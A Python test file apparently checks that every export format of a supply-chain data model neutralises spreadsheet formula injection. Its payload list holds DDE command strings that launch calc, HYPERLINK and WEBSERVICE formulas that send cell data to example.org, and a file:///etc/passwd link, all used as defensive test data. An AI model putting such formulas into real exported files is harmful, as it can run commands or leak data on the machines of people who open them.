"""Fault 10: text that begins with = becomes a formula in the spreadsheet of whoever opens the file.

How text is guarded and comes back is tested in tests/schemas/test_tables.py.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest

from schemas.formats.files import load_chain
from schemas.formats.registry import FORMATS
from tests.builders import a_chain, customer, department, link

STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x"]
CALLS = ["cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?x="&A1,"x")', "1+1", 'WEBSERVICE("https://example.org")']
LINKS = ["http://example.org", "internal:Sheet1!A1", "file:///etc/passwd", "mailto:x@example.org"]
PAYLOADS = [f"{sign}{call}" for sign in ("=", "+", "-", "@") for call in CALLS] + STARTS + LINKS
NAMES = [text for text in PAYLOADS if not re.search(r"[\t\r\n]", text)]


def _document() -> object:
    parties = [department(f"u{n}", 1.0, name=name, owner=name, tags=[name]) for n, name in enumerate(NAMES)]
    links = [link(f"u{n}", "k", offering=name, need=name, note=name) for n, name in enumerate(NAMES)]
    return a_chain([*parties, customer("k", 1.0, name=NAMES[0])], links, name=NAMES[0], purpose=NAMES[1])


def _cells(archive: zipfile.ZipFile) -> Iterator[str]:
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
                yield from row


@pytest.mark.parametrize("name", sorted(name for name, one in FORMATS.items() if one.write is not None))
def test_no_text_of_a_chain_is_a_formula_or_an_address_in_any_file(name: str, tmp_path: object) -> None:
    document = _document()
    written = FORMATS[name].write(document)  # type: ignore[misc, arg-type]

    if not zipfile.is_zipfile(io.BytesIO(written)):
        return
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        assert [
            cell for cell in _cells(archive) if cell.lstrip()[:1] in set("=+-@＝＋－＠") and not _is_number(cell)
        ] == []
        for part in archive.namelist():
            if part.endswith((".xml", ".rels")):
                assert not re.search(rb"<f[ >]|<hyperlink[ >]", archive.read(part)), part
    file = tmp_path / f"chain.{name}"  # type: ignore[operator]
    file.write_bytes(written)
    if FORMATS[name].read is not None:
        assert [p.name for p in load_chain(file).parties][: len(NAMES)] == NAMES


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell) is not None
